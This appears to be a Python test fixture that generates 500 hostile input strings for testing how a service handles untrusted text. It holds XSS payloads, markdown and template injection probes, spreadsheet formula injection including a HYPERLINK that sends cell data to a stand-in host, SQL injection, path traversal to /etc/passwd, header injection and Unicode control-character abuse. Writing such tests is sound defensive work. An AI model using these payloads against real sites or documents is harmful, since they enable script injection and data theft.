"""Five hundred texts that try to be more than texts: markup, formulas, control characters, long lines."""

from __future__ import annotations

MARK = "hacked"
"""What a script of one of them would set as the title of the page, or ask of a server."""

_SCRIPT = f"document.title='{MARK}'"
_MARKUP = (
    f"<script>{_SCRIPT}</script>",
    f"<ScRiPt src=//{MARK}.example/x.js></sCrIpT>",
    f"<img src=x onerror={_SCRIPT}>",
    f"<img src=https://{MARK}.example/x.png>",
    f"<svg onload={_SCRIPT}>",
    f"<svg><script>{_SCRIPT}</script></svg>",
    f"<svg><animate onbegin={_SCRIPT} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_SCRIPT}>#x'></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_SCRIPT}></style></mglyph></table></mtext>",
    f"<math href='javascript:{_SCRIPT}'>click</math>",
    f"<iframe srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
    f"<iframe src=https://{MARK}.example></iframe>",
    f"<object data='data:text/html,<script>{_SCRIPT}</script>'></object>",
    f"<embed src=https://{MARK}.example>",
    f"<base href=https://{MARK}.example/>",
    f"<link rel=stylesheet href=https://{MARK}.example/x.css>",
    f"<meta http-equiv=refresh content='0;url=https://{MARK}.example'>",
    f"<style>@import 'https://{MARK}.example/x.css'; * {{ display: none }}</style>",
    f"<body onload={_SCRIPT}>",
    f"<details open ontoggle={_SCRIPT}>",
    f"<video><source onerror={_SCRIPT}></video>",
    f"<input autofocus onfocus={_SCRIPT}>",
    f"<marquee onstart={_SCRIPT}>",
    f"<a href='javascript:{_SCRIPT}' autofocus>click</a>",
    f"<form action=https://{MARK}.example><input name=place-1><button>Hand in</button></form>",
    f"<template shadowrootmode=open><script>{_SCRIPT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_SCRIPT}>'>",
    f"<!--><script>{_SCRIPT}</script-->",
    f"<![CDATA[<script>{_SCRIPT}</script>]]>",
    f"</textarea></pre></form></main></body></html><script>{_SCRIPT}</script>",
    f"</title></style></script></template><img src=x onerror={_SCRIPT}>",
    f'" onmouseover="{_SCRIPT}" autofocus onfocus="{_SCRIPT}',
    f"' onmouseover='{_SCRIPT}' x='",
    f"`-->'\"></select><option><img src=x onerror={_SCRIPT}>",
    "<form id=task><input name=action><input id=note name=attributes><img name=getElementById>",
    f"<scr\0ipt>{_SCRIPT}</scr\0ipt>",
    f"<script\u00a0>{_SCRIPT}</\u017fcript>",
    f"+ADw-script+AD4-{_SCRIPT}+ADw-/script+AD4-",
    f"&lt;script&gt;{_SCRIPT}&lt;/script&gt; &#60;img src=x&#62; &NewLine; &#0; &#xd800;",
    f"<plaintext><xmp><listing>{_SCRIPT}",
)
_MARKDOWN = (
    f"[click](javascript:{_SCRIPT})",
    f"![x](https://{MARK}.example/x.png)",
    f"<https://{MARK}.example> https://{MARK}.example www.{MARK}.example",
    f"[a]: javascript:{_SCRIPT} 'x'\n[a] ![a]",
    f'[x](<javascript:{_SCRIPT}> "onload={_SCRIPT}")',
    f"```<script>{_SCRIPT}</script>\ncode\n```",
    f"~~~ html onload={_SCRIPT}\n<b>\n~~~",
    f"| <b onclick={_SCRIPT}> | b |\n|:--|--:|\n| <i> | `</td>` | beyond |",
    f"# <svg onload={_SCRIPT}>\n\nTitle\n=====\n\n---\n***",
    "> " * 300 + "deep\n" + "- " * 300 + "deep",
    "[" * 2_000 + "](x)" * 2_000,
    "*_**__`~~" * 500,
    f"<div>\n\n**{MARK}**\n\n</div>\n\n1. one\n999999999. two",
)
_TEMPLATES = (
    "{{ 7 * 7 }} {{ config }} {{ ''.__class__.__mro__ }}",
    "{% raw %}{% endraw %}{% for x in range(10**9) %}{% endfor %}{# x #}",
    "${7*7} #{7*7} <%= 7*7 %> {7*7} %(x)s %s %n {0.__class__} $(id) `id`",
    "{{constructor.constructor('document.title=1')()}} [[${7*7}]] *{7*7}",
)
_FORMULAS = (
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("https://{MARK}.example?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1;\"=1+1\",'=1+1'\n=1+1",
)
_CHARACTERS = (
    "\u202etxt.exe\u202c \u202bab\u202c \u2066x\u2067y\u2068z\u2069",
    "\u200b\u200c\u200d\u2060\ufeff invisible \u00ad \u034f \u3164",
    "".join(map(chr, range(32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "NUL \0 in a text \0",
    "\ud800 single \udfff and \udc00\ud800 in the wrong order",
    "\ufffe \uffff \U0001fffe \U0010ffff \ue000",
    "a" + "\u0301" * 2_000,
    "\u2028 \u2029 \x85 \x0b \x0c \r single \r\n both",
    "\x1b[31m red \x1b]0;title\x07 \x9b31m",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd <b>",
    "\u0fd0\u0430 \uff1cscript\uff1e \u02ba \u2039",
)
_OTHERS = (
    "'; DROP TABLE entry; -- \" OR 1=1 /*",
    "../../../../etc/passwd\\..\\..\\windows",
    f"x\r\nSet-Cookie: {MARK}=1\r\nLocation: https://{MARK}.example\r\n\r\n<script>",
    '"}]}, {"ranks": {"x": 1}} \\ \\u0000 \\" </script>',
    "---\nlicense: x\n---\n# heading\n```",
    f'{{"__proto__": {{"title": "{MARK}"}}, "constructor": 1}}',
    f"javascript:{_SCRIPT}",
    f"data:text/html,<script>{_SCRIPT}</script>",
    f"//{MARK}.example",
    "null",
    "-1",
    "1e999",
)
_BASES = (*_MARKUP, *_MARKDOWN, *_TEMPLATES, *_FORMULAS, *_CHARACTERS, *_OTHERS)
_LONG = ("x" * 190_000, "\u202e" + "<b>" * 60_000, "\U0001f600" * 190_000, "a b\n" * 45_000, "\0" * 190_000)
_FRAMES = ("{}", "before {} after", "`{}`", "**{}**", "> {}", "- {}\n- {}")
COUNT = 500


def hostile_texts() -> tuple[str, ...]:
    """Return the texts, each different; the longest are close to the longest text that the service takes."""
    framed = [frame.replace("{}", base) for frame in _FRAMES for base in _BASES]
    found = (*_LONG, *dict.fromkeys(framed))
    assert len(found) >= COUNT
    return found[:COUNT]
